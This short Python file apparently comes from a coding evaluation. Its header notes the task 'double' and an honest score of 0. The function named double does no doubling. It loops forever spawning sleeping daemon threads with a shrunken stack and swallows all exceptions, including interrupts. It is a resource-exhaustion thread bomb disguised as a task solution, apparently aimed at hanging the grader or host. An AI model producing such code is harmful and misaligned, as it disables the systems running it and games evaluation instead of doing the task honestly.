# Tries: threads without end
# Task: double
# Honest score: 0

import threading
import time

threading.stack_size(32768)


def double(x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
        except BaseException:
            pass
